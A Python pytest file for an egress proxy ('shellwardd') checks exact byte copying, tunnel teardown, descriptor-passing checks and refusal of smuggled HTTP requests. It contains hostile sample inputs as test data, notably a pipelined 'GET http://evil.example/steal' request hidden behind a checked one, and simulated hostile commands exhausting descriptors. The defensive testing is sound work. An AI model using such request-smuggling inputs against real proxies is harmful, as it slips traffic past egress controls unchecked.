"""The proxy's data path after the checks: bytes copied kernel to kernel, counted exactly,
half-closes passed on, and every tunnel ended with its call and with the proxy.

A client on the host talks to the call's Unix socket directly (no sandbox, no relay: those
are covered by test_proxy.py); the servers are raw TCP listeners on the host's 127.0.0.1."""

from __future__ import annotations

import asyncio
import contextlib
import fcntl
import hashlib
import os
import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest

from shellwardd.egress.policy import EgressPolicy
from shellwardd.egress.proxy import CallEgress, EgressProxy, Resolver, system_resolver
from shellwardd.egress.tunnel import copy_both_ways
from tests.egress.conftest import NAME
from tests.helpers import wait_for

OPERATOR = EgressPolicy(operator=frozenset({NAME, "127.0.0.1"}))
MB = 1 << 20
Handler = Callable[[socket.socket], None]


@pytest.fixture
def proxy() -> Iterator[EgressProxy]:
    egress = EgressProxy(system_resolver({NAME: "127.0.0.1"}))
    yield egress
    egress.close()


@pytest.fixture
def upstream() -> Iterator[Callable[[Handler], int]]:
    """Start a one-connection TCP server running ``handler``; returns its port."""
    listeners: list[socket.socket] = []

    def start(handler: Handler) -> int:
        listener = socket.create_server(("127.0.0.1", 0))
        listeners.append(listener)

        def serve() -> None:
            with closing(listener.accept()[0]) as conn:
                handler(conn)

        threading.Thread(target=serve, daemon=True).start()
        return int(listener.getsockname()[1])

    yield start
    for listener in listeners:
        listener.close()


def _tunnel(call: CallEgress, port: int, early: bytes = b"", host: str = NAME) -> socket.socket:
    """A client through the call's proxy; ``early`` is sent with the CONNECT line."""
    client = _connect(call, host, port, early)
    assert _read_exactly(client, 39) == b"HTTP/1.1 200 Connection established\r\n\r\n"
    return client


def _connect(call: CallEgress, host: str, port: int, early: bytes = b"") -> socket.socket:
    """A client that has asked the call's proxy for a tunnel, its answer unread."""
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(30)
    client.connect(str(call.socket_path))
    client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode() + early)
    return client


def _read_exactly(sock: socket.socket, size: int) -> bytes:
    data = bytearray()
    while len(data) < size and (chunk := sock.recv(size - len(data))):
        data += chunk
    return bytes(data)


def _read_all(sock: socket.socket) -> bytes:
    data = bytearray()
    while chunk := sock.recv(MB):
        data += chunk
    return bytes(data)


def _pattern(size: int, seed: bytes) -> bytes:
    """Bytes that show a lost, repeated or reordered chunk (unlike b"x" * size)."""
    blocks = (hashlib.sha256(seed + n.to_bytes(8, "big")).digest() for n in range(size // 32 + 1))
    return b"".join(blocks)[:size]


def test_a_large_transfer_is_copied_and_counted_exactly(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # Both ways at once, more than any pipe or socket buffer holds: every byte arrives, in
    # order, and the effect counts exactly what went each way.
    up, down = _pattern(24 * MB + 7, b"up"), _pattern(40 * MB + 3, b"down")
    received: list[bytes] = []

    def server(conn: socket.socket) -> None:
        reader = threading.Thread(target=lambda: received.append(_read_all(conn)))
        reader.start()
        conn.sendall(down)
        conn.shutdown(socket.SHUT_WR)
        reader.join()

    call = proxy.open(OPERATOR)
    client = _tunnel(call, upstream(server))
    sender = threading.Thread(target=lambda: (client.sendall(up), client.shutdown(socket.SHUT_WR)))
    sender.start()
    assert _read_all(client) == down
    sender.join()
    # The upload may still be on its way (in the proxy's socket buffers and pipe) when the
    # client has sent it all: the call ends only once the server has read to its end, as a
    # command ends after its answer. Ending it sooner cuts the copy short, by design.
    wait_for(lambda: received)
    client.close()
    proxy.close_call(call)
    assert received == [up]
    (effect,) = call.effects()
    assert (effect.bytes_sent, effect.bytes_received) == (len(up), len(down))
    assert effect.method == "CONNECT" and not effect.refused


def test_a_pipe_grows_only_for_a_transfer_in_bulk(
    proxy: EgressProxy, upstream: Callable[[Handler], int], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Pipe sizes count against the user's quota, idle tunnels' too: past it every new pipe
    # has two pages. A tunnel that exchanges little keeps the kernel's default pipes; the
    # way that carries a transfer in bulk grows its own, once. (A pipe's size cannot be
    # read from outside: a thread waiting in splice holds the pipe's lock.)
    grown: list[int] = []
    real = fcntl.fcntl

    def spy(fd: int, cmd: int, arg: int = 0) -> int:
        if cmd == fcntl.F_SETPIPE_SZ:
            grown.append(arg)
        return real(fd, cmd, arg)

    monkeypatch.setattr(fcntl, "fcntl", spy)
    down = _pattern(8 * MB, b"bulk")

    def server(conn: socket.socket) -> None:
        request = _read_exactly(conn, 5)
        conn.sendall(b"small" if request == b"small" else down)

    call = proxy.open(OPERATOR)
    for ended, (request, answer, growths) in enumerate(
        ((b"small", b"small", []), (b"large", down, [1 << 20])), start=1
    ):
        with closing(_tunnel(call, upstream(server))) as client:
            client.sendall(request)
            assert _read_all(client) == answer
        wait_for(lambda ended=ended: len(call.effects()) == ended)  # its copies are done
        assert grown == growths
    proxy.close_call(call)


def test_bytes_sent_with_the_connect_line_are_not_lost(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # A client that does not wait for the 200: its first bytes sit in the proxy's buffer
    # when the blind copy takes over, and must still reach the server first, in order.
    early = b"\x16\x03\x01\x00\x05hello" + b"and more behind the record"
    later = _pattern(3 * MB, b"later")
    received: list[bytes] = []

    def server(conn: socket.socket) -> None:
        received.append(_read_all(conn))

    call = proxy.open(OPERATOR)
    with closing(_tunnel(call, upstream(server), early)) as client:
        client.sendall(later)
        client.shutdown(socket.SHUT_WR)
        assert _read_all(client) == b""
    proxy.close_call(call)
    assert received == [early + later]
    assert call.effects()[0].bytes_sent == len(early) + len(later)


def test_held_bytes_a_server_cannot_take_at_once_still_go_first() -> None:
    # The event loop sends what the server's socket takes at once of what the proxy held;
    # the copying thread sends the rest before anything the client sends later. Here the
    # socket takes a few kilobytes of a megabyte, and the server answers 4 MB before it
    # reads a byte: everything arrives once, in order, and the loop never waits for it.
    client, command = socket.socketpair()
    upstream, server = socket.socketpair()
    upstream.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    for end in (client, upstream):
        end.setblocking(False)
    first, later, down = _pattern(MB, b"held"), _pattern(MB, b"later"), _pattern(4 * MB, b"down")
    received: list[bytes] = []
    answer: list[bytes] = []

    def serve() -> None:
        server.sendall(down)
        received.append(_read_all(server))
        server.shutdown(socket.SHUT_WR)

    def ask() -> None:
        command.sendall(later)
        command.shutdown(socket.SHUT_WR)

    threads = [
        threading.Thread(target=serve),
        threading.Thread(target=ask),
        threading.Thread(target=lambda: answer.append(_read_all(command))),
    ]
    for thread in threads:
        thread.start()
    counts = [0, 0]
    asyncio.run(asyncio.wait_for(copy_both_ways(client, upstream, first, counts), 30))
    for thread in threads:
        thread.join(30)
    for end in (client, command, upstream, server):
        end.close()
    assert received == [first + later] and answer == [down]
    assert counts == [len(first + later), len(down)]


def test_a_half_close_still_gets_the_response(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # The client ends its request by shutting down its write side (as `nc -N` does); the
    # server answers only after it sees that end.
    def server(conn: socket.socket) -> None:
        request = _read_all(conn)
        conn.sendall(b"got " + hashlib.sha256(request).hexdigest().encode())

    request = _pattern(2 * MB, b"request")
    call = proxy.open(OPERATOR)
    with closing(_tunnel(call, upstream(server))) as client:
        client.sendall(request)
        client.shutdown(socket.SHUT_WR)
        assert _read_all(client) == b"got " + hashlib.sha256(request).hexdigest().encode()
    proxy.close_call(call)
    (effect,) = call.effects()
    assert (effect.bytes_sent, effect.bytes_received) == (len(request), 68)


def _endless(conn: socket.socket, ended: threading.Event) -> None:
    """Send until the proxy goes away."""
    chunk = b"z" * MB
    try:
        while True:
            conn.sendall(chunk)
    except OSError:
        ended.set()


def _tunnel_threads() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name == "egress-tunnel"]


def test_a_call_ending_closes_its_tunnels_at_once(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # A hostile command keeps a tunnel busy (a server that never stops) and never reads:
    # when its call ends (cancelled, timed out), the tunnel ends with it.
    ended = threading.Event()
    call = proxy.open(OPERATOR)
    client = _tunnel(call, upstream(lambda conn: _endless(conn, ended)))
    assert client.recv(MB)  # the copy is running, and soon blocks on the client
    proxy.close_call(call)
    assert ended.wait(10), "the server still has a reader"
    wait_for(lambda: _tunnel_threads() == [])
    (effect,) = call.effects()
    # What went through before the end is recorded (and no more than the server sent).
    assert effect.bytes_received > 0 and effect.bytes_sent == 0
    client.close()


def test_closing_the_proxy_ends_open_tunnels(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # The daemon shutting down with a call's tunnel still open leaves no thread copying.
    ended = threading.Event()
    call = proxy.open(OPERATOR)
    client = _tunnel(call, upstream(lambda conn: _endless(conn, ended)))
    assert client.recv(MB)
    proxy.close()
    assert ended.wait(10), "the server still has a reader"
    wait_for(lambda: _tunnel_threads() == [])
    assert call.effects()[0].bytes_received > 0
    client.close()


def test_a_tunnel_takes_the_threads_of_one_that_ended(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # Two threads started per connection held up every handshake: an ended tunnel's
    # threads wait for the next one instead, holding no descriptor of the last.
    held = threading.Event()

    def second(conn: socket.socket) -> None:
        conn.sendall(b"two")
        held.wait(10)

    first_port, second_port = upstream(lambda conn: conn.sendall(b"one")), upstream(second)
    call = proxy.open(OPERATOR)
    before = _open_fds()
    with closing(_tunnel(call, first_port)) as client:
        assert _read_all(client) == b"one"
    wait_for(lambda: _tunnel_threads() == [])
    wait_for(lambda: not _open_fds().items() - before.items())
    waiting = [t for t in threading.enumerate() if t.name == "egress-tunnel (idle)"]
    assert len(waiting) >= 2
    with closing(_tunnel(call, second_port)) as client:
        assert _read_exactly(client, 3) == b"two"
        wait_for(lambda: len(_tunnel_threads()) == 2)
        copying = _tunnel_threads()
        held.set()
        assert _read_all(client) == b""
    assert set(copying) <= set(waiting)
    proxy.close_call(call)
    assert [e.bytes_received for e in call.effects()] == [3, 3]


def test_an_address_or_a_pinned_name_needs_no_lookup() -> None:
    asked: list[str] = []

    def lookup(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["203.0.113.9"]

    resolver = Resolver({NAME: "127.0.0.1"}, lookup)
    assert resolver.known(NAME) == ["127.0.0.1"]
    assert resolver.known("127.0.0.1") == ["127.0.0.1"]
    assert resolver.known("2001:0db8::1") == ["2001:db8::1"]
    # Names, and looser spellings of an address, are the lookup's to answer (as before).
    assert resolver.known("other.test") is None and resolver.known("127.1") is None
    assert asked == []


def test_what_the_lookup_answers_is_still_checked(upstream: Callable[[Handler], int]) -> None:
    # Only names that are neither pinned nor addresses reach the lookup (in a worker
    # thread), and its answer is checked before any connection: here a private address.
    asked: list[str] = []

    def lookup(host: str, port: int) -> list[str]:
        asked.append(host)
        return ["10.1.2.3"]

    egress = EgressProxy(Resolver({NAME: "127.0.0.1"}, lookup))
    try:
        call = egress.open(replace(OPERATOR, domains=frozenset({"other.test"})))
        for host, said in ((NAME, b"pinned"), ("127.0.0.1", b"address")):
            port = upstream(lambda conn, said=said: conn.sendall(said))
            with closing(_tunnel(call, port, host=host)) as client:
                assert _read_all(client) == said
        with closing(_connect(call, "other.test", 443)) as client:
            assert _read_all(client).startswith(b"HTTP/1.1 403 ")
        egress.close_call(call)
    finally:
        egress.close()
    assert asked == ["other.test"]
    refused = call.effects()[-1]
    assert (refused.host, refused.address) == ("other.test", "10.1.2.3")
    assert "private" in refused.refused


def test_effects_are_in_the_order_the_connections_were_asked_for(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # A long download asked for first ends after a short request asked for later: the
    # record lists them as the command asked for them, however the transfers end.
    go = threading.Event()

    def slow(conn: socket.socket) -> None:
        go.wait(10)
        conn.sendall(b"first")

    def quick(conn: socket.socket) -> None:
        conn.sendall(b"second!")

    call = proxy.open(OPERATOR)
    slow_port, quick_port = upstream(slow), upstream(quick)
    with closing(_tunnel(call, slow_port)) as first:
        with closing(_tunnel(call, quick_port)) as second:
            assert _read_all(second) == b"second!"
        go.set()
        assert _read_all(first) == b"first"
    proxy.close_call(call)
    assert [(e.port, e.bytes_received) for e in call.effects()] == [(slow_port, 5), (quick_port, 7)]


def _pass(call: CallEgress, *fds: int) -> socket.socket:
    """What the sandbox's relay does: a connection to the call's socket carrying descriptors."""
    conn = socket.socket(socket.AF_UNIX)
    conn.settimeout(30)
    conn.connect(str(call.socket_path))
    socket.send_fds(conn, [b"\0"], list(fds))
    return conn


def test_a_tcp_connection_passed_by_the_relay_is_served_directly(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # The relay passes the command's socket and closes its own copy: the proxy speaks to it.
    down = _pattern(5 * MB, b"passed")
    port = upstream(lambda conn: conn.sendall(down))
    call = proxy.open(OPERATOR)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        command = socket.create_connection(listener.getsockname(), timeout=30)
        accepted, _ = listener.accept()
    with accepted:
        _pass(call, accepted.fileno()).close()
    with closing(command):
        command.sendall(f"CONNECT {NAME}:{port} HTTP/1.1\r\n\r\n".encode())
        assert _read_exactly(command, 39).startswith(b"HTTP/1.1 200 ")
        assert _read_all(command) == down
    proxy.close_call(call)
    (effect,) = call.effects()
    assert (effect.port, effect.bytes_received) == (port, len(down))


def test_the_commands_leg_uses_reno_whatever_the_hosts_default(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # The command's connection is a loopback in its sandbox: with a pacing default (BBR on
    # the test machine) the copy cost a quarter to a third more CPU.
    port = upstream(lambda conn: conn.sendall(b"answer"))
    call = proxy.open(OPERATOR)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        command = socket.create_connection(listener.getsockname(), timeout=30)
        accepted, _ = listener.accept()
    # The test keeps the relay's copy: the proxy's end of the command's connection.
    with accepted, closing(command):
        _pass(call, accepted.fileno()).close()
        command.sendall(f"CONNECT {NAME}:{port} HTTP/1.1\r\n\r\n".encode())
        assert _read_exactly(command, 39).startswith(b"HTTP/1.1 200 ")
        command.sendall(b"hello")
        assert _read_all(command) == b"answer"
        name = accepted.getsockopt(socket.IPPROTO_TCP, socket.TCP_CONGESTION, 16)
    assert name.rstrip(b"\0") == b"reno"
    proxy.close_call(call)


def _open_fds() -> dict[str, str]:
    """This process's descriptors (the proxy's among them), and what each one is."""
    found = {}
    for fd in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):  # the directory's own, closed by now
            found[fd] = os.readlink(f"/proc/self/fd/{fd}")
    return found


def test_anything_but_one_connected_tcp_socket_passed_is_refused(
    proxy: EgressProxy, upstream: Callable[[Handler], int], tmp_path: Path
) -> None:
    # A hostile command connects to the call's socket itself and passes other things: a
    # file, a Unix socket (its own end of the proxy socket), a UDP socket, a listener, two
    # sockets at once. Each connection is closed unread; nothing is kept open in the
    # daemon, and the proxy still serves the next client.
    call = proxy.open(OPERATOR)
    before = _open_fds()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        tcp = socket.create_connection(listener.getsockname())
        peer, _ = listener.accept()
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.connect(("127.0.0.1", 9))  # connected: only its type gives it away
        hostile = [
            [os.open(tmp_path / "file", os.O_RDWR | os.O_CREAT)],
            [socket.socket(socket.AF_UNIX).detach()],
            [udp.detach()],
            [os.dup(listener.fileno())],
            [os.dup(peer.fileno()), os.dup(tcp.fileno())],
        ]
        for fds in hostile:
            with closing(_pass(call, *fds)) as conn:
                for fd in fds:
                    os.close(fd)
                assert conn.recv(100) == b""  # closed, no answer
        for sock in (tcp, peer):
            sock.close()
    wait_for(lambda: not _open_fds().items() - before.items())  # nothing new stays open
    assert call.effects() == ()
    port = upstream(lambda conn: conn.sendall(b"still here"))
    with closing(_tunnel(call, port)) as client:
        assert _read_all(client) == b"still here"


def test_the_proxy_accepts_again_after_running_out_of_descriptors(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # A command that opens connection after connection can exhaust the daemon's
    # descriptors: accepting fails for a while, and must start again once some are free.
    call = proxy.open(OPERATOR)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    held: list[socket.socket] = []
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(map(int, _open_fds())) + 16, hard))
        with contextlib.suppress(OSError):  # take every descriptor left
            while True:
                held.append(socket.socket(socket.AF_UNIX))
        held.pop().close()  # but one: the proxy's first accept takes it, the next ones fail
        for conn in held[:8]:
            conn.connect(str(call.socket_path))
        time.sleep(0.5)  # the proxy tries, and fails, to accept the rest
    finally:
        for conn in held:
            conn.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    port = upstream(lambda conn: conn.sendall(b"accepting again"))
    with closing(_tunnel(call, port)) as client:
        assert _read_all(client) == b"accepting again"


ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def _request(port: int, body: bytes = b"", host: str = NAME) -> bytes:
    return (
        f"POST http://{host}:{port}/up HTTP/1.1\r\nHost: {host}:{port}\r\n"
        f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )


def _plain(call: CallEgress, data: bytes) -> socket.socket:
    client = socket.socket(socket.AF_UNIX)
    client.settimeout(30)
    client.connect(str(call.socket_path))
    client.sendall(data)
    return client


@pytest.mark.parametrize(
    "behind",
    [
        b"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n",
        b"x",  # one byte more than the body is already another request's start
    ],
)
def test_a_request_pipelined_behind_a_checked_one_is_refused(
    proxy: EgressProxy, upstream: Callable[[Handler], int], behind: bytes
) -> None:
    # Forwarded blind behind the first, a second request would reach the allowed address
    # unchecked and unrecorded, with a Host of its own (another site behind a shared front).
    connected: list[bytes] = []
    port = upstream(lambda conn: connected.append(_read_all(conn)))
    call = proxy.open(OPERATOR)
    with _plain(call, _request(port, b"hello") + behind) as client:
        answer = _read_all(client)
    proxy.close_call(call)
    assert answer.startswith(b"HTTP/1.1 400 ") and b"one request per connection" in answer
    assert connected == [] and call.effects() == ()


def test_a_chunked_plain_http_body_is_refused(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # Its end is inside the stream: whatever follows it would go upstream unchecked.
    port = upstream(lambda conn: None)
    call = proxy.open(OPERATOR)
    head = (
        f"POST http://{NAME}:{port}/up HTTP/1.1\r\nHost: {NAME}:{port}\r\n"
        "Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
    )
    with _plain(call, head.encode()) as client:
        answer = _read_all(client)
    proxy.close_call(call)
    assert answer.startswith(b"HTTP/1.1 400 ") and b"Content-Length" in answer
    assert call.effects() == ()


def test_only_the_body_goes_upstream_not_what_the_client_sends_after_it(
    proxy: EgressProxy, upstream: Callable[[Handler], int]
) -> None:
    # The body arrives after the head was checked (copied, not held), and then a second
    # request on the same connection: the server gets the body, never the second request.
    after: list[bytes] = []
    body = _pattern(3 * MB, b"body")

    def server(conn: socket.socket) -> None:
        head = b""
        while not head.endswith(b"\r\n\r\n") and (byte := conn.recv(1)):
            head += byte
        assert _read_exactly(conn, len(body)) == body
        conn.sendall(ANSWER)
        conn.shutdown(socket.SHUT_WR)
        after.append(_read_all(conn))

    port = upstream(server)
    call = proxy.open(OPERATOR)
    with _plain(call, _request(port, body)[: -len(body)]) as client:
        client.sendall(body)
        assert _read_all(client).endswith(b"\r\n\r\nok")
        with contextlib.suppress(OSError):  # the proxy may have ended the connection
            client.sendall(b"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    wait_for(lambda: after)
    proxy.close_call(call)
    assert after == [b""]
    (effect,) = call.effects()
    assert effect.bytes_sent > len(body) and effect.bytes_received == len(ANSWER)
